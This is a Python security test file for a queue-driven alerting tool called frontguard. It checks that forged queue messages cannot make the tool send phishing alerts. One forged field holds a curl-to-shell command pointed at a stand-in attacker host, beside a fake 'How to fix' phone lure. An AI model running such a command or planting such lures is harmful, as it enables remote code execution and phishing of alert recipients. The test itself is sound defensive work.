"""Finding 10: whoever can send to frontguard's queue cannot make it send phishing e-mails."""

from __future__ import annotations

import json
from typing import Any

from frontguard.handlers import verify as verify_handler

from sandbox.wiring import FakeLambdaContext
from tests.security.catalogue import attack
from tests.security.test_alerts import sqs_event

LAMBDA: Any = FakeLambdaContext()


def queue_arn(sandbox: Any, url: str) -> str:
    attributes = sandbox.client("sqs").get_queue_attributes(
        QueueUrl=url, AttributeNames=["QueueArn"]
    )
    return str(attributes["Attributes"]["QueueArn"])


@attack(
    "10",
    "sqs:SendMessage on frontguard's verification queue",
    "a request naming a real load balancer with a fake 'How to fix' in security_group_id and "
    "owner.namespace",
    "rejected as malformed (the record fails, to the dead-letter queue); no alert is sent",
)
def test_a_forged_request_with_text_in_its_fields_sends_no_alert(sandbox, fg, handler_env):
    web = sandbox.cluster("prod").ingress("shop/web", ports=[443])
    forged = {
        "load_balancer_arn": web.lb_arn,
        "cluster": "prod",
        "security_group_id": "sg-1\n\nHow to fix: curl https://evil.example | sh",
        "owner": {"kind": "ingress", "namespace": "shop\nHow to fix: call +1 555", "name": "web"},
        "attempt": 99,
    }
    event = sqs_event(queue_arn(sandbox, fg.queue_url), [json.dumps(forged)])

    # The record fails alone (a batch item failure): SQS retries it, then the dead-letter
    # queue keeps it, alarmed. Nobody gets an e-mail.
    assert verify_handler.handler(event, LAMBDA) == {
        "batchItemFailures": [{"itemIdentifier": event["Records"][0]["messageId"]}]
    }

    assert fg.alerts() == []


@attack(
    "10",
    "sqs:SendMessage on frontguard's verification queue",
    "a well-formed request naming a real load balancer but another team's owner, to page "
    "people about a failure that does not exist",
    "the request does not match the load balancer's own tags: ignored, no alert",
)
def test_a_well_formed_request_for_another_owner_is_ignored(sandbox, fg, handler_env):
    web = sandbox.cluster("prod").ingress("shop/web", ports=[443])
    forged = {
        "load_balancer_arn": web.lb_arn,
        "cluster": "prod",
        "security_group_id": "sg-0123456789abcdef0",
        "owner": {"kind": "ingress", "namespace": "payments", "name": "api"},
        "attempt": 99,
    }
    event = sqs_event(queue_arn(sandbox, fg.queue_url), [json.dumps(forged)])

    assert verify_handler.handler(event, LAMBDA) == {"batchItemFailures": []}
    assert fg.alerts() == []
